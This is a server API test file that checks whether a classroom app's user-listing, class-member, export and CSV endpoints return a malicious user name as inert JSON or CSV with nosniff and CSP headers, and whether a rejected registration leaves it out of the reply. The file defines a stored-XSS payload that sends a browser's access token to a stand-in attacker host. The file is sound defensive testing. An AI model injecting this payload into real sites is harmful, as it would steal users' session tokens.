import { describe, expect, test } from 'vitest';
import { tokenAnswer } from '../../server/src/contract/accounts/schemas.ts';
import { buildClass, buildClassMember } from '../../server/src/testing/builders/classes.ts';
import { toOwner } from '../../server/src/testing/class-fixture.ts';
import {
  bearer,
  createFirebaseAccount,
  signInAccount,
} from '../../server/src/testing/test-accounts.ts';
import { startTestApi } from '../../server/src/testing/test-api.ts';

const api = await startTestApi();
const { request, collections } = api;
const teacher = await signInAccount(api, { teacher: true });

/** What a stranger enters as the own name, for the page of a teacher who looks at the list of users. */
const markup = `<img src=x onerror="fetch('//evil.test/' + localStorage['access-token'])">`;

/** The ways in which somebody chooses the own name. */
const ways: [
  string,
  (account: Awaited<ReturnType<typeof createFirebaseAccount>>) => Promise<void>,
][] = [
  ['in the Firebase profile', async () => {}],
  [
    'at registration',
    async ({ idToken, email }) => {
      await request.post('/users').set(bearer(idToken)).send({ email, name: markup }).expect(200);
    },
  ],
];

describe.each(ways)('markup as a name, given %s', async (_where, register) => {
  const stranger = await createFirebaseAccount({ name: markup });
  await register(stranger);
  const { email, idToken, uid } = stranger;
  const answer = await request.post('/jwt').set(bearer(idToken)).send({ email }).expect(200);
  const authorization = bearer(tokenAnswer.parse(answer.body).token);
  const { insertedId } = await collections.classes.insertOne(
    buildClass({ teachers: [toOwner(teacher)] }),
  );
  await collections.classMembers.insertOne(
    buildClassMember(insertedId, { uid, email, name: markup }),
  );

  test.each([
    ['/users', teacher.authorization],
    [`/classes/${insertedId}/members`, teacher.authorization],
    [`/classes/${insertedId}/matrix`, teacher.authorization],
    ['/account/export', authorization],
    [`/classes/${insertedId}/matrix.csv`, teacher.authorization],
  ])('is sent by %s as data that no browser shows as a page', async (path, proof) => {
    const sent = await request.get(path).set(proof).expect(200);
    expect(sent.headers['content-type']).toMatch(/^(application\/json|text\/csv);/);
    expect(sent.headers['x-content-type-options']).toBe('nosniff');
    expect(sent.headers['content-security-policy']).toContain("default-src 'none'");
    // As it was written: a page that shows text needs nothing escaped, and another name would hide who it is.
    const text = path.endsWith('.csv')
      ? sent.text.replaceAll('""', '"')
      : JSON.stringify(sent.body);
    expect(text).toContain(path.endsWith('.csv') ? markup : JSON.stringify(markup).slice(1, -1));
  });

  test('is not repeated by a refusal', async () => {
    const refused = await request
      .post('/users')
      .set(bearer(idToken))
      .send({ email: markup, name: markup })
      .expect(400);
    expect(refused.headers['content-type']).toMatch(/^application\/problem\+json/);
    expect(refused.text).not.toContain('onerror');
  });
});
